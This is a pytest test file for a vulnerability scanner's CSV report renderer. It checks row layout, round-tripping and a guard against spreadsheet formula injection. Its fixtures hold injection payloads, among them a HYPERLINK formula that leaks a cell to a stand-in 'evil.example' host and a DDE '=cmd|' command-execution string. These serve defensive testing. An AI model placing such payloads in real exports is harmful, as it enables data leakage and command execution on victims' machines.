"""CSV: one row per (vulnerability, location), a faithful round trip through the csv module,
and no cell a spreadsheet would evaluate."""

from __future__ import annotations

import csv
import json
import tracemalloc
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import pytest

from brulee.core.report import Report, ScanSummary
from brulee.core.scan import Host, Port, ScanRun, Service
from brulee.core.vulnerability import Assessment, Cvss, EpssScore, KevEntry, Vulnerability
from brulee.findings.grouping import ServiceGrouper
from brulee.findings.spool import Spool
from brulee.match.sources import open_matching
from brulee.pipeline import render_reports
from brulee.report.csv import COLUMNS, CsvRenderer, guard_cell
from brulee.report.interface import renderer_for
from tests.conftest import NMAP_XML

from .conftest import HOSTILE

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|'/C calc'!A0",
    "  =1+1",  # after leading whitespace
    "\t=1+1",
    "\r=1+1",
    "\n@SUM(1)",
    "\u3000=1+1",  # ideographic space
    "\uff1d1+1",  # full-width equals sign
    HOSTILE.replace("Apache/2.4.49 ", "=", 1),
)


def read(path: Path) -> list[dict[str, str]]:
    """The rows, as a spreadsheet importer sees them (the BOM is the encoding's)."""
    with path.open(encoding="utf-8-sig", newline="") as f:
        reader = csv.DictReader(f)
        assert tuple(reader.fieldnames or ()) == COLUMNS
        return list(reader)


def render(report: Report, tmp_path: Path) -> list[dict[str, str]]:
    path = tmp_path / "report.csv"
    CsvRenderer().render(report, path)
    assert path.read_bytes().startswith(b"\xef\xbb\xbfservice,product,")
    return read(path)


def unguard(cell: str) -> str:
    """The text before the guard: the quote comes off only where the guard put it."""
    rest = cell[1:]
    if cell.startswith("'") and (rest[:1] in TRIGGERS or rest.lstrip()[:1] in TRIGGERS):
        return rest
    return cell


def assert_inert(cell: str) -> None:
    if cell[:1] in TRIGGERS or cell.lstrip()[:1] in TRIGGERS:
        raise AssertionError(f"unguarded formula cell {cell!r}")


@pytest.mark.parametrize("text", FORMULAS)
def test_guard_prefixes_every_formula_trigger(text: str) -> None:
    guarded = guard_cell(text)
    assert guarded.startswith("'")
    assert_inert(guarded)


@pytest.mark.parametrize(
    "text", ["", "Apache httpd", "2.4.49", "0.5", "1", "a=b", "'quoted", HOSTILE]
)
def test_guard_leaves_ordinary_text_alone(text: str) -> None:
    assert guard_cell(text) == text


def test_guard_makes_control_characters_visible() -> None:
    assert guard_cell("a\x00b\u202ec") == "a\ufffdb\ufffdc"
    assert guard_cell(443) == "443"


def test_one_row_per_vulnerability_and_location(report: Report, tmp_path: Path) -> None:
    rows = render(report, tmp_path)
    expected = sum(
        g.location_count * (max(len(g.vulnerabilities), 1) + len(g.fixed)) for g in report.services
    )
    assert len(rows) == expected
    apache = [r for r in rows if r["product"] == "Apache httpd"]
    assert Counter((r["address"], r["port"]) for r in apache) == {
        ("192.0.2.10", "80"): 4, ("2001:db8::5", "80"): 4,
    }  # fmt: skip
    assert Counter(r["cve"] for r in apache) == {
        "CVE-2021-41773": 2, "CVE-2021-44790": 2, "CVE-2021-33193": 2, "CVE-2024-40898": 2,
    }  # fmt: skip
    # Every location of every service is there, even where no vulnerability applies.
    for group in report.services:
        service = group.service
        where = {(loc.address, str(loc.port), loc.protocol) for loc in report.locations(group)}
        mine = [
            r for r in rows if (r["product"], r["version"]) == (service.product, service.version)
        ]
        assert {(r["address"], r["port"], r["protocol"]) for r in mine} == where


def test_vulnerability_columns_round_trip(report: Report, tmp_path: Path) -> None:
    rows = render(report, tmp_path)
    traversal = next(r for r in rows if r["cve"] == "CVE-2021-41773" and r["port"] == "80")
    assert traversal == {
        "service": "http", "product": "Apache httpd", "version": "2.4.49",
        "extrainfo": "(Unix)", "protocol": "tcp", "port": "80", "address": "192.0.2.10",
        "hostname": "web1.example.test", "status": "vulnerable", "cve": "CVE-2021-41773",
        "severity": "high", "cvss": "7.5", "cvss_version": "3.1", "epss": "0.94432",
        "epss_percentile": "0.99917", "kev": "yes (2021-11-03)", "confidence": "certain",
        "advisory": "", "remediation": "",
        "reason": "cpe:2.3:a:apache:http_server:2.4.49:*:*:*:*:*:*:* matches 2.4.49",
        "description": "Path traversal and file disclosure in Apache HTTP Server 2.4.49.",
        "url": "https://nvd.nist.gov/vuln/detail/CVE-2021-41773", "cwe": "CWE-22", "vex": "",
        "certainty": "certain",
    }  # fmt: skip
    assert next(r for r in rows if r["cve"] == "CVE-2021-44790")["cwe"] == "CWE-787; NVD-CWE-Other"
    unscored = next(r for r in rows if r["cve"] == "CVE-2024-40898")
    assert (unscored["severity"], unscored["cvss"], unscored["epss"], unscored["kev"]) == (
        "unscored", "", "", "no",
    )  # fmt: skip
    assert unscored["certainty"] == "possible"  # reported by a third party
    scp = next(r for r in rows if r["cve"] == "CVE-2019-6111")
    assert scp["advisory"] == "DSA-4387-1"
    assert scp["remediation"].startswith("upgrade the Debian stretch package to 1:7.4p1-10+deb9u5")
    backport = next(r for r in rows if r["cve"] == "CVE-2023-38408")
    assert backport["confidence"] == "unverified-backport"
    noted = next(r for r in rows if r["cve"] == "CVE-2020-15778")
    assert noted["vex"].startswith("VEX under_investigation by secops@example.com (vex.json")


def test_fixed_by_distribution_rows_are_marked_and_hide_nothing(
    report: Report, tmp_path: Path
) -> None:
    rows = render(report, tmp_path)
    (fixed,) = [r for r in rows if r["cve"] == "CVE-2018-15473"]
    assert (fixed["confidence"], fixed["advisory"], fixed["address"]) == (
        "fixed-by-distribution", "DSA-4280-1", "192.0.2.20",
    )  # fmt: skip
    assert fixed["reason"].startswith("DSA-4280-1 (2018-08-22): fixed in 1:7.4p1-10+deb9u4")
    findings = [r for r in rows if r["confidence"] != "fixed-by-distribution"]
    assert {(r["address"], r["port"]) for r in findings} == {
        (r["address"], r["port"]) for r in rows
    }


@pytest.mark.parametrize(
    ("status", "note"),
    [
        ("unchecked", "no vulners output for this port"),
        ("unknown", "acme:snmp_agent is not in the vulnerability database"),
        ("unversioned", "no version was detected"),
        ("clean", "none of the 42 CVEs"),
    ],
)
def test_services_without_vulnerabilities_have_a_row_per_location(
    report: Report, tmp_path: Path, status: str, note: str
) -> None:
    rows = [r for r in render(report, tmp_path) if r["status"] == status]
    group = next(g for g in report.services if g.status == status)
    assert len(rows) == group.location_count
    for row in rows:
        assert row["cve"] == row["severity"] == row["kev"] == row["confidence"] == ""
        assert row["reason"].startswith(note)


def test_hostile_banner_round_trips_inert(report: Report, tmp_path: Path) -> None:
    rows = render(report, tmp_path)
    evil = [r for r in rows if r["service"] == "http-alt"]
    assert {r["cve"] for r in evil} == {"CVE-2021-42013", "CVE-2021-41773"}
    for row in evil:
        assert row["product"] == row["version"] == row["extrainfo"] == row["hostname"] == HOSTILE
    reported = next(r for r in evil if r["cve"] == "CVE-2021-42013")
    assert reported["description"] == reported["reason"] == HOSTILE
    assert reported["url"] == ""  # javascript: is no link to offer


# A report whose every text field starts with a formula.
FORMULA_VULN = Vulnerability(
    id="CVE-2099-0001",
    severity="high",
    cvss=Cvss(8.1, "3.1", "=1+1"),
    description="@SUM(1)",
    url='=HYPERLINK("https://evil.example","x")',
    confidence="reported",
    reason="  =1+1",
    kev=KevEntry("2024-01-02", "2024-01-23", "=a", "=b", "=c", "=d", "Unknown", "=e"),
    epss=EpssScore(0.00004, 0.0123),
    advisory="-1+1",
    remediation="\t=cmd|'/C calc'!A0",
)


def build_formula_report(spool: Spool) -> Report:
    grouper = ServiceGrouper(spool)
    for n, formula in enumerate(FORMULAS):
        service = Service(
            name=formula, product=formula, version=formula, extrainfo=formula, cpes=("x",)
        )
        https = Port("tcp", 443, "open", "syn-ack", service)
        snmp = Port("udp", 161, "open", "udp-response", service)
        grouper.add_host(
            Host(f"198.51.100.{n + 1}", hostnames=(formula,), reason="syn-ack"),
            [
                (https, Assessment("vulnerable", (FORMULA_VULN,))),
                (snmp, Assessment("unknown", note=formula)),
            ],
        )
    summary = ScanSummary(ScanRun(args="nmap"), (), "2024-05-01T10:05:00+00:00", "0.1.0")
    return Report(summary, grouper.groups(), spool)


@pytest.fixture
def formula_report() -> Iterator[Report]:
    with Spool() as spool:
        yield build_formula_report(spool)


def test_no_cell_starts_a_formula(formula_report: Report, tmp_path: Path) -> None:
    rows = render(formula_report, tmp_path)
    assert len(rows) == 2 * len(FORMULAS)
    for row in rows:
        for cell in row.values():
            assert_inert(cell)
    by_address = {r["address"]: r for r in rows if r["cve"]}
    for n, formula in enumerate(FORMULAS):
        row = by_address[f"198.51.100.{n + 1}"]
        for column in ("service", "product", "version", "extrainfo", "hostname"):
            assert unguard(row[column]) == guard_cell(formula)[1:], column
    row = by_address["198.51.100.1"]
    assert [unguard(row[c]) for c in ("description", "reason", "advisory", "remediation")] == [
        "@SUM(1)", "  =1+1", "-1+1", "\t=cmd|'/C calc'!A0",
    ]  # fmt: skip
    assert row["epss"] == "0.00004"  # never 4e-05
    assert row["url"] == ""
    notes = [r["reason"] for r in rows if r["status"] == "unknown"]
    assert {unguard(n) for n in notes} == {guard_cell(f)[1:] for f in FORMULAS}


def test_empty_scan_is_a_header(tmp_path: Path) -> None:
    with Spool() as spool:
        summary = ScanSummary(ScanRun(), (), "2024-05-01T10:05:00+00:00", "0.1.0")
        assert render(Report(summary, (), spool), tmp_path) == []


def test_registered_as_csv() -> None:
    assert isinstance(renderer_for("csv"), CsvRenderer)


@pytest.mark.parametrize(
    "name", ["lab-basic.xml", "hostile-banner.xml", "ipv6.xml", "vulners.xml", "udp.xml"]
)
def test_real_scans_agree_with_the_json_report(name: str, tmp_path: Path, starter_db: Path) -> None:
    with open_matching(starter_db) as matching:
        render_reports([NMAP_XML / name], ["json", "csv"], tmp_path, matching=matching)
    data = json.loads((tmp_path / "report.json").read_text("utf-8"))
    rows = read(tmp_path / "report.csv")
    for cell in (c for r in rows for c in r.values()):
        assert_inert(cell)
    found: dict[tuple[str, str, str, str], list[str]] = {}
    for row in rows:
        key = (row["product"], row["address"], row["port"], row["protocol"])
        found.setdefault(key, []).append(row["cve"])
    expected: dict[tuple[str, str, str, str], list[str]] = {}
    for service in data["services"]:
        cves = [v["id"] for v in service["vulnerabilities"]] or [""]
        cves += [v["id"] for v in service["fixed_by_distribution"]]
        for loc in service["locations"]:
            key = (service["product"], loc["address"], str(loc["port"]), loc["protocol"])
            expected.setdefault(key, []).extend(cves)
    assert found == expected
    assert len(rows) == sum(len(v) for v in expected.values())


def test_locations_stream(tmp_path: Path) -> None:
    """A big fleet's rows are written as they are read: memory does not grow with them."""
    with Spool() as spool:
        grouper = ServiceGrouper(spool)
        service = Service(name="ssh", product="OpenSSH", version="7.4p1")
        vulns = Assessment("vulnerable", (FORMULA_VULN,))
        for n in range(20_000):
            address = f"10.{n // 65536}.{n // 256 % 256}.{n % 256}"
            grouper.add_host(Host(address), [(Port("tcp", 22, "open", "syn-ack", service), vulns)])
        summary = ScanSummary(ScanRun(), (), "2024-05-01T10:05:00+00:00", "0.1.0")
        report = Report(summary, grouper.groups(), spool)
        tracemalloc.start()
        try:
            CsvRenderer().render(report, tmp_path / "big.csv")
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
    size = (tmp_path / "big.csv").stat().st_size
    assert size > 3_000_000
    assert peak < size / 10, f"peak {peak} bytes for a {size}-byte file"
